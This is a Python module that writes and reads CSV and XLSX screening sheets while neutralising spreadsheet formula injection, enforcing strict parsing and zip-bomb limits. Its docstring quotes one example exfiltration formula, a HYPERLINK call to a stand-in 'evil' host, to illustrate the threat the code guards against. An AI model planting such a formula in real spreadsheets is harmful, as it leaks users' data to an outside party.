"""CSV and XLSX files people open in a spreadsheet program: no cell is a formula, every cell reads back.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1)``
sends the sheet away when clicked; DDE formulas run programs). Cells are
neutralised the way OWASP recommends (CSV injection):

* CSV: such a cell is written with a leading ``'``, the spreadsheet
  convention for "this is text"; :func:`read_csv` takes it off again, so the
  text reads back exactly as it was (a cell that itself starts with quotes
  before such a character gets one more quote, so the rule is reversible).
  Plain numbers (``-0.5``, ``+3``) are not formulas and stay as they are.
* XLSX (written by XlsxWriter, read by calamine): such a cell is stored as a
  text cell with Excel's quote-prefix style: it shows and reads back as the
  text, and stays text when edited. Control characters XML cannot hold (pasted
  from a PDF, say) are written as OOXML's ``_xHHHH_`` escapes, which Excel and
  :func:`read_xlsx` decode. Two kinds of text do not read back exactly (the
  libraries' limits, not worth owning an OOXML layer for): the noncharacters
  U+FFFE and U+FFFF, and text in which two ``_xHHHH_``-like sequences share an
  underscore (``_x005F_x0041_``); the CSV beside a screening sheet keeps both.

:func:`read_csv` is strict where pandas is lenient: a row with fewer or more
fields than the header (a file cut short mid-row, a stray comma) is an error
naming the row, so a damaged sheet is never taken for a shorter one.
"""

from __future__ import annotations

import csv
import datetime
import io
import logging
import re
from collections.abc import Iterator, Sequence
from pathlib import Path

import numpy as np
import pandas as pd

from .errors import ReviewkitError
from .io import read_bytes
from .redact import excerpt

log = logging.getLogger(__name__)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY = re.compile(r"^'*[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
# A sheet of screening decisions is a few MB even for 100,000 records.
MAX_SHEET_BYTES = 256 * 2**20


def _needs_quote(text: str) -> bool:
    return bool(_RISKY.match(text)) and not _NUMBER.match(text)


def neutralise(value: object) -> object:
    """A CSV cell as written: text a spreadsheet would run as a formula gets a leading ``'``."""
    return "'" + value if isinstance(value, str) and _needs_quote(value) else value


def restore(text: str) -> str:
    """A CSV cell as read: the inverse of :func:`neutralise`."""
    return text[1:] if text.startswith("'") and _needs_quote(text[1:]) else text


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index, ``\\n`` line ends) with every text cell and header neutralised."""
    out = frame.map(neutralise)
    out.columns = [neutralise(c) for c in frame.columns]
    # The csv writer quotes a field holding a carriage return only when \r ends lines; such a cell
    # (rare: pasted text) is kept whole by quoting every field of that file.
    carriage = any(isinstance(v, str) and "\r" in v for v in [*out.columns, *out.to_numpy().ravel()])
    return out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_ALL if carriage else csv.QUOTE_MINIMAL)


# Excel's limits (XlsxWriter leaves out, or cuts, what exceeds them).
_EXCEL_ROWS, _EXCEL_COLUMNS, _EXCEL_CELL_CHARACTERS = 1_048_576, 16_384, 32_767
# Text whose first character is none of these (a formula's, or "<" of text XlsxWriter may take for
# rich-text XML) needs no style and no care.
_CAREFUL_START = "".join(FORMULA_STARTS) + "<"


def xlsx_bytes(frame: pd.DataFrame, sheet_name: str, *, widths: Sequence[float] = (),
               freeze: str | None = None) -> bytes:
    """``frame`` as an XLSX workbook of one sheet; cells a spreadsheet would run are quote-prefixed text.

    XlsxWriter writes it, row by row in constant-memory mode (100,000 screening rows in seconds,
    memory flat): text always as text (never turned into a formula, URL or number), whole and
    fractional numbers as numbers, missing values blank. XlsxWriter writes control characters as
    OOXML's ``_xHHHH_`` escapes, which Excel and :func:`read_xlsx` decode.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table; its column names are the header row (bold).
    sheet_name : str
        The worksheet's name.
    widths : sequence of float
        Column widths from column A on.
    freeze : str, optional
        The top-left cell of the unfrozen pane (e.g. ``"B2"``).

    Returns
    -------
    bytes
        The workbook.
    """
    import xlsxwriter

    if len(frame) >= _EXCEL_ROWS or frame.shape[1] > _EXCEL_COLUMNS:  # XlsxWriter would leave such cells out
        raise ReviewkitError(f"{sheet_name}: {len(frame):,} rows and {frame.shape[1]:,} columns do not fit a "
                             f"worksheet ({_EXCEL_ROWS - 1:,} rows under the header, {_EXCEL_COLUMNS:,} columns)")
    buffer = io.BytesIO()
    # No string is ever read as a formula, URL or number: text stays exactly what it was.
    book = xlsxwriter.Workbook(buffer, {"constant_memory": True, "strings_to_formulas": False,
                                        "strings_to_urls": False, "strings_to_numbers": False,
                                        "nan_inf_to_errors": True, "default_date_format": "yyyy-mm-dd hh:mm:ss"})
    sheet = book.add_worksheet(sheet_name)
    for number, width in enumerate(widths[: frame.shape[1]]):
        sheet.set_column(number, number, width)
    if freeze:
        sheet.freeze_panes(freeze)
    quote = book.add_format({"quote_prefix": True})
    bold, bold_quote = book.add_format({"bold": True}), book.add_format({"bold": True, "quote_prefix": True})
    long_cells = 0

    def text(row: int, column: int, value: str, plain, quoted) -> None:
        nonlocal long_cells
        style = quoted if value.startswith(FORMULA_STARTS) else plain
        if value.startswith("<r>") and value.endswith("</r>"):
            # In constant-memory mode XlsxWriter writes such text as rich-text XML as it is; as plain
            # runs (it wants three or more) it is escaped like any text, and reads back joined.
            written = sheet.write_rich_string(row, column, value[:1], value[1:2], value[2:],
                                              *([style] if style else []))
        else:
            written = sheet.write_string(row, column, value, style)
        if written == -2:
            long_cells += 1
        elif written:
            raise ReviewkitError(f"{sheet_name}: XlsxWriter could not write row {row + 1}, column {column + 1} "
                                 f"(code {written})")

    # Constant-memory mode: rows strictly in order, each written whole before the next.
    write_string = sheet.write_string
    for column, name in enumerate(frame.columns):
        text(0, column, str(name), bold, bold_quote)
    for row, values in enumerate(frame.itertuples(index=False, name=None), 1):
        for column, value in enumerate(values):
            kind = type(value)
            if kind is str:
                if value and value[0] not in _CAREFUL_START and len(value) <= _EXCEL_CELL_CHARACTERS:
                    write_string(row, column, value)  # most cells: straight to XlsxWriter
                elif value:
                    text(row, column, value, None, quote)
            elif kind is int or kind is float:
                if value == value:  # NaN: blank, as pandas writes it
                    sheet.write_number(row, column, value)
            elif value is None or value is pd.NA or value is pd.NaT:
                continue
            elif isinstance(value, (bool, np.bool_)):
                sheet.write_boolean(row, column, bool(value))
            elif isinstance(value, (np.integer, np.floating)):
                if value == value:
                    sheet.write_number(row, column, value.item())
            elif isinstance(value, (pd.Timestamp, datetime.datetime, datetime.date)):
                sheet.write_datetime(row, column, value.to_pydatetime() if isinstance(value, pd.Timestamp) else value)
            else:
                text(row, column, str(value), None, quote)
    book.close()
    if long_cells:
        # Excel's limit: a longer cell would not open. The CSV beside a screening sheet keeps the whole text.
        log.warning("%s: %d cell(s) longer than 32,767 characters (Excel's limit) cut to that length in the XLSX",
                    sheet_name, long_cells)
    return buffer.getvalue()


def read_csv(path: str | Path, what: str = "table") -> pd.DataFrame:
    """A CSV file people may have edited, as a table of strings, formulas' quotes taken off.

    The file is read without following a symbolic link. Not UTF-8, a quote never
    closed, a row whose number of fields differs from the header's, or a header
    that names a column twice is a ``ReviewkitError`` naming the file (and row).
    Blank lines are skipped; a header cell left empty is named ``Unnamed: <n>`` as pandas does.
    """
    path = Path(path)
    try:
        text = read_bytes(path, MAX_SHEET_BYTES).decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise ReviewkitError(f"{path}: the {what} is not UTF-8 text (byte {exc.start}); save it as CSV UTF-8") from None
    rows = csv.reader(_lines(text), strict=True)
    try:
        header = next(rows, None)
        if header is None:
            raise ReviewkitError(f"{path}: the {what} is empty (no header row)")
        names = [restore(h) or f"Unnamed: {i}" for i, h in enumerate(header)]
        twice = sorted({n for n in names if names.count(n) > 1})
        if twice:
            raise ReviewkitError(f"{path}: the header names column {excerpt(twice[0])} twice")
        body = []
        for row in rows:
            if not row:
                continue
            if len(row) != len(names):
                line = rows.line_num
                raise ReviewkitError(
                    f"{path}, line {line}: {len(row)} fields where the header has {len(names)}"
                    + ("; the file looks cut short (saved while being written?)" if len(row) < len(names) else "")
                    + "; nothing was changed")
            body.append([restore(v) for v in row])
    except csv.Error as exc:
        raise ReviewkitError(f"{path}, line {rows.line_num}: not valid CSV ({exc}); the file looks cut short or "
                             "damaged; nothing was changed") from None
    return pd.DataFrame(body, columns=names, dtype=object)


# A line as io.StringIO(text, newline="") yields it: up to and with "\r\n", "\r" or "\n", or the last piece.
_LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")


def _lines(text: str) -> Iterator[str]:
    """``text``'s lines, as ``io.StringIO(text, newline="")`` gives them to the csv module, one at a time:
    StringIO keeps its text as four bytes a character (470 MB for a 117 MB sheet at 100,000 records)."""
    return (m.group() for m in _LINE.finditer(text))


def read_xlsx(path: str | Path, what: str = "table") -> pd.DataFrame:
    """The first sheet of an XLSX file as a table of strings (empty cells ""), never through a link.

    pandas reads it with calamine (Rust): whole numbers read as ``"3"``, dates and booleans as pandas
    and openpyxl show them, ``_xHHHH_`` escapes decoded. Before that the package is checked: it must
    unpack to at most :data:`MAX_UNPACKED_BYTES` (a zip bomb is refused), and its worksheets are
    searched for formulas. calamine gives a formula's cached result (none, if the program that saved
    it did not compute it), so a sheet holding formulas is read by openpyxl instead, which gives the
    formula's text, as a person typed it: reviewkit keeps it as text (quote-prefixed when written),
    never loses it, and a warning names the file. (Before, pandas' openpyxl reader gave the cached
    results too.) A damaged or non-XLSX file is one ``ReviewkitError``
    naming the file; nothing is changed.
    """
    path = Path(path)
    data = read_bytes(path, MAX_SHEET_BYTES)
    try:
        formulas = _holds_formulas(data)
        if formulas:
            log.warning("%s: the %s holds formulas; they are read as their text (=...), not their results",
                        path, what)
        if formulas:  # openpyxl gives the formulas' text (pandas asks it for their cached results by default)
            frame = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="openpyxl",
                                  engine_kwargs={"data_only": False})
        else:
            frame = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="calamine")
        return frame.astype(object)
    except ReviewkitError as exc:
        raise ReviewkitError(f"{path}: cannot read the {what} ({exc}); nothing was changed") from None
    except Exception as exc:  # a damaged workbook must name itself, whatever the zip or XML layer raised
        raise ReviewkitError(f"{path}: cannot read the {what} ({type(exc).__name__}: {excerpt(exc)}); "
                             "nothing was changed") from None


#: What an XLSX file may unpack to: a screening sheet of 100,000 records is about 200 MB of XML.
MAX_UNPACKED_BYTES = 1024 * 2**20
# A formula element (<f>, <f t="shared" ...>, <x:f>) in worksheet XML; text there has "<" escaped,
# so this finds elements only.
_FORMULA = re.compile(rb"<(?:[A-Za-z_][\w.-]*:)?f[\s/>]")


def _holds_formulas(data: bytes) -> bool:
    """Whether a worksheet of the XLSX ``data`` holds a formula; its parts unpacked as a stream, their
    total bounded by :data:`MAX_UNPACKED_BYTES` (what the zip says, and what it really unpacks to)."""
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(data))
    if sum(info.file_size for info in archive.infolist()) > MAX_UNPACKED_BYTES:
        raise ReviewkitError(f"it unpacks to more than {MAX_UNPACKED_BYTES // 2**20} MB")
    unpacked, found = 0, False
    for info in archive.infolist():
        with archive.open(info) as part:  # zipfile stops at the stated size and checks the CRC
            tail = b""
            while chunk := part.read(2**20):
                unpacked += len(chunk)
                if unpacked > MAX_UNPACKED_BYTES:
                    raise ReviewkitError(f"it unpacks to more than {MAX_UNPACKED_BYTES // 2**20} MB")
                if not found and info.filename.startswith("xl/worksheets/"):
                    found = bool(_FORMULA.search(tail + chunk))
                    tail = chunk[-64:]  # an element cut between two chunks
    return found
